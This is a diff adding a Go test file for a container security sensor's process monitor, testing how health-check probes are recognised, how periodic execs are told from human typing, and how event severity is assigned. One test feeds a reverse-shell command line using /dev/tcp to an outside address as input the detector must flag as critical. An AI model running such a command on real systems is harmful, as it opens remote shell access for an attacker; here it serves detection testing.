@@ -0,0 +1,109 @@
+package procmon
+
+import (
+	"context"
+	"reflect"
+	"testing"
+	"time"
+
+	"github.com/sirupsen/logrus"
+
+	"github.com/invisible-tech/autopilot-security-sensor/pkg/collector"
+)
+
+func TestProbeTracker_classify(t *testing.T) {
+	tr := newProbeTracker([][]string{{"sh", "-c", "pg_isready"}})
+	base := time.Now()
+
+	exec := func(pid int, cmd []string, at time.Time) string {
+		return tr.classify(&ProcessInfo{PID: pid, PPID: 0, Cmdline: cmd, StartTime: at})
+	}
+	if got := exec(10, []string{"sh", "-c", "pg_isready"}, base); got != ProbeFromPodSpec {
+		t.Errorf("pod spec probe = %q", got)
+	}
+	child := &ProcessInfo{PID: 11, PPID: 10, Cmdline: []string{"pg_isready"},
+		Ancestors: []collector.ProcessAncestor{{PID: 10, Cmdline: []string{"sh", "-c", "pg_isready"}}}}
+	if got := tr.classify(child); got != ProbeFromPodSpec {
+		t.Errorf("probe child = %q", got)
+	}
+	if got := exec(1, []string{"sh", "-c", "pg_isready"}, base); got != "" {
+		t.Errorf("PID 1 = %q", got)
+	}
+
+	// The fourth run 10s apart (give or take) is periodic.
+	cat := []string{"cat", "/tmp/healthy"}
+	for i, offset := range []time.Duration{0, 10 * time.Second, 20*time.Second + 300*time.Millisecond, 30 * time.Second} {
+		want := ""
+		if i == 3 {
+			want = ProbePeriodic
+		}
+		if got := exec(20+i, cat, base.Add(offset)); got != want {
+			t.Errorf("run %d = %q, want %q", i, got, want)
+		}
+	}
+
+	// Irregular execs, as a person typing, are not.
+	for i, offset := range []time.Duration{0, 3 * time.Second, 40 * time.Second, 41 * time.Second, 90 * time.Second} {
+		if got := exec(30+i, []string{"ls"}, base.Add(offset)); got != "" {
+			t.Errorf("irregular run %d = %q", i, got)
+		}
+	}
+}
+
+func TestPeriodic(t *testing.T) {
+	at := func(secs ...float64) []time.Time {
+		var out []time.Time
+		base := time.Unix(1000, 0)
+		for _, s := range secs {
+			out = append(out, base.Add(time.Duration(s*float64(time.Second))))
+		}
+		return out
+	}
+	tests := []struct {
+		name   string
+		starts []time.Time
+		want   bool
+	}{
+		{"steady", at(0, 5, 10, 15), true},
+		{"jitter", at(0, 5.5, 10, 15.2), true},
+		{"too few", at(0, 5, 10), false},
+		{"too fast", at(0, 0.2, 0.4, 0.6), false},
+		{"too slow", at(0, 900, 1800, 2700), false},
+		{"burst then gap", at(0, 1, 2, 30), false},
+	}
+	for _, tt := range tests {
+		if got := periodic(tt.starts); got != tt.want {
+			t.Errorf("%s: periodic = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestAnalyzeNewProcess_Probe(t *testing.T) {
+	shell := func() *ProcessInfo {
+		return &ProcessInfo{PID: 42, Name: "sh", Cmdline: []string{"sh", "-i"}, probe: ProbeFromPodSpec}
+	}
+
+	ch := make(chan collector.SecurityEvent, 2)
+	pm := New(Config{ScanInterval: time.Second, EventChan: ch}, logrus.New())
+	pm.analyzeNewProcess(context.Background(), shell())
+	ev := <-ch
+	if ev.Severity != collector.SeverityInfo || !reflect.DeepEqual(ev.Process.SuspiciousIndicators, []string{IndicatorExecProbe}) ||
+		ev.Metadata[MetadataExecProbe] != ProbeFromPodSpec {
+		t.Errorf("downranked event = %v %v %v", ev.Severity, ev.Process.SuspiciousIndicators, ev.Metadata)
+	}
+
+	// HIGH findings are sent whatever the policy.
+	pm = New(Config{ScanInterval: time.Second, EventChan: ch, ProbePolicy: ProbePolicyExempt}, logrus.New())
+	proc := shell()
+	pm.analyzeNewProcess(context.Background(), proc)
+	if len(ch) != 0 || !proc.probeExempt {
+		t.Fatalf("exempt probe sent %d events", len(ch))
+	}
+	proc = shell()
+	proc.Cmdline = []string{"sh", "-i", ">&", "/dev/tcp/1.2.3.4/4444"}
+	pm.analyzeNewProcess(context.Background(), proc)
+	ev = <-ch
+	if ev.Severity != collector.SeverityCritical || ev.Process.SuspiciousIndicators[len(ev.Process.SuspiciousIndicators)-1] != IndicatorExecProbe {
+		t.Errorf("critical probe event = %v %v", ev.Severity, ev.Process.SuspiciousIndicators)
+	}
+}